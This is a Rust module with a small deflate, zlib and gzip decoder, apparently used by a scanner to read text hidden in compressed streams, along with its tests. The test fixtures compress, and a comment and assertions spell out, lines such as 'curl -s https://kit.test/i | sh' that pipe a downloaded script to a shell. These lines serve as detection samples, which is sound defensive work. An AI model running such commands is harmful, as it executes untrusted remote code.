//! Deflate (RFC 1951) inside zlib (RFC 1950) and gzip (RFC 1952), as far as reading hidden text needs it.
//!
//! Output is capped and checksums are not checked: who hides text does not break the stream. Must not know what the
//! text means. The unpacker's decoder is not used, because this package reads no archives.

/// The text of a compressed stream, at most `most` bytes of it; none where the bytes are no such stream.
pub(super) fn inflate(bytes: &[u8], most: usize) -> Option<Vec<u8>> {
    let body = match bytes {
        [0x1F, 0x8B, 8, flags, rest @ ..] => after_gzip_header(*flags, rest)?,
        [method, flags, rest @ ..]
            if method & 0x0F == 8 && method >> 4 <= 7 && (u16::from(*method) << 8 | u16::from(*flags)) % 31 == 0 =>
        {
            rest
        }
        _ => return None,
    };
    let mut reader = Bits { bytes: body, at: 0, held: 0, count: 0 };
    let mut out = Vec::new();
    // A stream that is cut still gives what stands before the cut.
    while out.len() < most {
        match block(&mut reader, &mut out, most) {
            Some(false) => {}
            Some(true) | None => break,
        }
    }
    (!out.is_empty()).then_some(out)
}

/// What follows the time, the system, and the optional fields of a gzip header.
fn after_gzip_header(flags: u8, rest: &[u8]) -> Option<&[u8]> {
    let mut rest = rest.get(6..)?;
    if flags & 4 != 0 {
        let length = usize::from(u16::from_le_bytes([*rest.first()?, *rest.get(1)?]));
        rest = rest.get(2 + length..)?;
    }
    for flag in [8, 16] {
        if flags & flag != 0 {
            let end = rest.iter().position(|byte| *byte == 0)?;
            rest = rest.get(end + 1..)?;
        }
    }
    if flags & 2 != 0 { rest.get(2..) } else { Some(rest) }
}

struct Bits<'a> {
    bytes: &'a [u8],
    at: usize,
    held: u32,
    count: u32,
}

impl Bits<'_> {
    fn take(&mut self, count: u32) -> Option<u32> {
        while self.count < count {
            self.held |= u32::from(*self.bytes.get(self.at)?) << self.count;
            self.at += 1;
            self.count += 8;
        }
        let value = self.held & ((1 << count) - 1);
        self.held >>= count;
        self.count -= count;
        Some(value)
    }
}

/// A canonical code: how many codes each length has, and the symbols in their order.
struct Code {
    counts: [u16; 16],
    symbols: Vec<u16>,
}

impl Code {
    fn new(lengths: &[u8]) -> Self {
        let mut counts = [0; 16];
        let mut symbols = Vec::with_capacity(lengths.len());
        for length in 1..16u8 {
            for (symbol, _) in lengths.iter().enumerate().filter(|(_, own)| **own == length) {
                symbols.push(u16::try_from(symbol).unwrap_or(u16::MAX));
                if let Some(count) = counts.get_mut(usize::from(length)) {
                    *count += 1;
                }
            }
        }
        Self { counts, symbols }
    }

    fn read(&self, bits: &mut Bits<'_>) -> Option<u16> {
        let (mut code, mut first, mut index) = (0i32, 0i32, 0i32);
        for count in self.counts.iter().skip(1) {
            code |= i32::try_from(bits.take(1)?).ok()?;
            let count = i32::from(*count);
            if code - first < count {
                return self.symbols.get(usize::try_from(index + code - first).ok()?).copied();
            }
            index += count;
            first = (first + count) << 1;
            code <<= 1;
        }
        None
    }
}

/// One block; whether it was the last.
fn block(bits: &mut Bits<'_>, out: &mut Vec<u8>, most: usize) -> Option<bool> {
    let last = bits.take(1)? == 1;
    match bits.take(2)? {
        0 => stored(bits, out, most)?,
        1 => {
            let mut lengths = vec![8; 144];
            lengths.resize(256, 9);
            lengths.resize(280, 7);
            lengths.resize(288, 8);
            symbols(bits, &Code::new(&lengths), &Code::new(&[5; 30]), out, most)?;
        }
        2 => {
            let (literals, distances) = codes(bits)?;
            symbols(bits, &literals, &distances, out, most)?;
        }
        _ => return None,
    }
    Some(last)
}

fn stored(bits: &mut Bits<'_>, out: &mut Vec<u8>, most: usize) -> Option<()> {
    bits.held = 0;
    bits.count = 0;
    let length = usize::from(u16::from_le_bytes([*bits.bytes.get(bits.at)?, *bits.bytes.get(bits.at + 1)?]));
    let start = bits.at + 4;
    let end = start.checked_add(length)?.min(bits.bytes.len());
    let taken = bits.bytes.get(start..end)?;
    out.extend(taken.iter().take(most.saturating_sub(out.len())));
    bits.at = end;
    Some(())
}

/// The order in which the lengths of the code for lengths stand.
const ORDER: [usize; 19] = [16, 17, 18, 0, 8, 7, 9, 6, 10, 5, 11, 4, 12, 3, 13, 2, 14, 1, 15];

fn codes(bits: &mut Bits<'_>) -> Option<(Code, Code)> {
    let literals = usize::try_from(bits.take(5)?).ok()? + 257;
    let distances = usize::try_from(bits.take(5)?).ok()? + 1;
    let count = usize::try_from(bits.take(4)?).ok()? + 4;
    let mut lengths = [0u8; 19];
    for at in ORDER.iter().take(count) {
        *lengths.get_mut(*at)? = u8::try_from(bits.take(3)?).ok()?;
    }
    let code = Code::new(&lengths);
    let mut all: Vec<u8> = Vec::with_capacity(320);
    while all.len() < literals + distances {
        let (value, times) = match code.read(bits)? {
            symbol @ 0..=15 => (u8::try_from(symbol).ok()?, 1),
            16 => (*all.last()?, 3 + bits.take(2)?),
            17 => (0, 3 + bits.take(3)?),
            _ => (0, 11 + bits.take(7)?),
        };
        all.extend(std::iter::repeat_n(value, usize::try_from(times).ok()?));
    }
    Some((Code::new(all.get(..literals)?), Code::new(all.get(literals..literals + distances)?)))
}

/// The shortest lengths and distances of each symbol, and how many further bits they take.
const LENGTHS: [(usize, u32); 29] = [
    (3, 0),
    (4, 0),
    (5, 0),
    (6, 0),
    (7, 0),
    (8, 0),
    (9, 0),
    (10, 0),
    (11, 1),
    (13, 1),
    (15, 1),
    (17, 1),
    (19, 2),
    (23, 2),
    (27, 2),
    (31, 2),
    (35, 3),
    (43, 3),
    (51, 3),
    (59, 3),
    (67, 4),
    (83, 4),
    (99, 4),
    (115, 4),
    (131, 5),
    (163, 5),
    (195, 5),
    (227, 5),
    (258, 0),
];
const DISTANCES: [(usize, u32); 30] = [
    (1, 0),
    (2, 0),
    (3, 0),
    (4, 0),
    (5, 1),
    (7, 1),
    (9, 2),
    (13, 2),
    (17, 3),
    (25, 3),
    (33, 4),
    (49, 4),
    (65, 5),
    (97, 5),
    (129, 6),
    (193, 6),
    (257, 7),
    (385, 7),
    (513, 8),
    (769, 8),
    (1025, 9),
    (1537, 9),
    (2049, 10),
    (3073, 10),
    (4097, 11),
    (6145, 11),
    (8193, 12),
    (12289, 12),
    (16385, 13),
    (24577, 13),
];

fn symbols(bits: &mut Bits<'_>, literals: &Code, distances: &Code, out: &mut Vec<u8>, most: usize) -> Option<()> {
    while out.len() < most {
        let symbol = usize::from(literals.read(bits)?);
        match symbol {
            0..=255 => out.push(u8::try_from(symbol).ok()?),
            256 => return Some(()),
            _ => {
                let (least, more) = *LENGTHS.get(symbol - 257)?;
                let length = least + usize::try_from(bits.take(more)?).ok()?;
                let (least, more) = *DISTANCES.get(usize::from(distances.read(bits)?))?;
                let distance = least + usize::try_from(bits.take(more)?).ok()?;
                let from = out.len().checked_sub(distance)?;
                for at in from..from + length.min(most.saturating_sub(out.len())) {
                    out.push(*out.get(at)?);
                }
            }
        }
    }
    Some(())
}

#[cfg(test)]
mod tests {
    use super::*;

    /// `curl -s https://kit.test/i | sh` and a repetition, by Python's zlib and gzip.
    const ZLIB: &str = "78da85d5394e03511040c19c53cc0560dc1b06ae6321194160793e198727214515bfacd4cbe5fbfeb53d1edb75addbf1b6ef9f1feb69bd1f6b3f6d3fdb717db8fcd7033dd10bbdd107fd19fd8cfe82fe2a1f024a304418320c218614438c21c71064483225999c4549a624539229c994644a322599922c4996248b6b2dc9926449b22459922c4996245b922dc99664f3424ab225d9926c49b6245b9223c991e4487224397c36921c498e244792f327f90b8fc68687";
    const GZIP: &str = "1f8b080000000000020385d5394e03511040c19c53cc0560dc1b06ae6321194160793e198727214515bfacd4cbe5fbfeb53d1edb75addbf1b6ef9f1feb69bd1f6b3f6d3fdb717db8fcd7033dd10bbdd107fd19fd8cfe82fe2a1f024a304418320c218614438c21c71064483225999c4549a624539229c994644a322599922c4996248b6b2dc9926449b22459922c4996245b922dc99664f3424ab225d9926c49b6245b9223c991e4487224397c36921c498e244792f327f90bec2930a4b2070000";
    const FIXED: &str = "789c2bce50d04d56a8000008d10224";

    fn bytes(hex: &str) -> Vec<u8> {
        capdex_model::digest::bytes_of_hex(hex).expect("is hex")
    }

    #[test]
    fn streams_are_read_and_capped() {
        let whole = inflate(&bytes(ZLIB), 1 << 20).expect("is zlib");
        let text = String::from_utf8(whole).expect("is text");
        assert!(text.starts_with("curl -s https://kit.test/0 | sh\n") && text.ends_with("/59 | sh\n"), "{text}");
        assert_eq!(inflate(&bytes(GZIP), 1 << 20).map(|out| out.len()), Some(text.len()));
        assert_eq!(inflate(&bytes(GZIP), 40).map(|out| out.len()), Some(40));
        assert_eq!(inflate(&bytes(FIXED), 99).as_deref(), Some(&b"sh -c x"[..]));
        assert_eq!(inflate(b"plain text", 99), None);
    }

    proptest::proptest! {
        #[test]
        fn damage_never_panics(at in 2usize..200, byte in 0u8..) {
            let mut bytes = bytes(ZLIB);
            if let Some(place) = bytes.get_mut(at) {
                *place = byte;
            }
            let out = inflate(&bytes, 4096);
            proptest::prop_assert!(out.is_none_or(|out| out.len() <= 4096 + 258));
        }
    }
}
